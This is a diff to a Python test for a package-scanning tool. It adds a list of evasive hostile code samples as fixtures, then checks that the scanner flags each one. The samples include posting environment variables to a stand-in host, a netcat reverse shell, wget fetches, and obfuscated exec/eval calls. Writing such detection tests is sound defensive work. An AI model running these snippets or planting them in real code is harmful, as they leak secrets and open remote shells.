@@ -88,16 +88,34 @@ def test_url_is_downloaded_and_scanned(
     assert main(["scan", f"{file_server}/demo-1.0.tar.gz#sha256={'0' * 64}"]) == 3
 
 
+EVASIONS = (
+    "import os, requests\ne = os.environ\nrequests.post('https://x.invalid', data=e)\n",
+    "import builtins as b\nname = 'ex' + 'ec'\nrun = getattr(b, name)\n",
+    "name = 'ev' + 'al'\nrun = getattr(__import__('builtins'), name)\n",
+    "import subprocess\nsubprocess.call(['bash', '-i'])\n",
+    "from os import system as run_it\nrun_it('wget -q https://x.invalid/a')\n",
+    "import os\nos.popen('/bin/nc -e /bin/sh 10.0.0.1 4444')\n",
+    "import socket, getpass\ns = socket.create_connection(('x.invalid', 80))\n"
+    "s.sendall(getpass.getuser().encode())\n",
+    "import base64\nrun = globals()['exec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
+)
+"""Shapes written to slip past token checks (aliases, list-form commands, names by string)."""
+
+
 def test_prefilter_never_hides_an_import_time_finding(tmp_path: Path) -> None:
-    """Every hostile and near-miss body as package code: same findings with and without it."""
+    """Every hostile, near-miss and evasive body as package code: same findings either way."""
     package = tmp_path / "demo-1.0"
     (package / "demo").mkdir(parents=True)
     for index, case in enumerate(CASES):
         (package / "demo" / f"h{index}.py").write_text(case.hostile)
         (package / "demo" / f"n{index}.py").write_text(case.near_miss)
+    for index, body in enumerate(EVASIONS):
+        (package / "demo" / f"e{index}.py").write_text(body)
     with_filter = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=True).run()
     without = ArtifactScan(str(tmp_path), "demo", "1.0", prefilter=False).run()
     assert sorted(map(repr, with_filter)) == sorted(map(repr, without))
+    evasive = {f.location.path for f in with_filter if f.location and "/e" in f.location.path}
+    assert len(evasive) == len(EVASIONS), sorted(evasive)
     assert {f.rule for f in with_filter} >= {
         "hook/exec-obfuscated",
         "hook/download-exec",
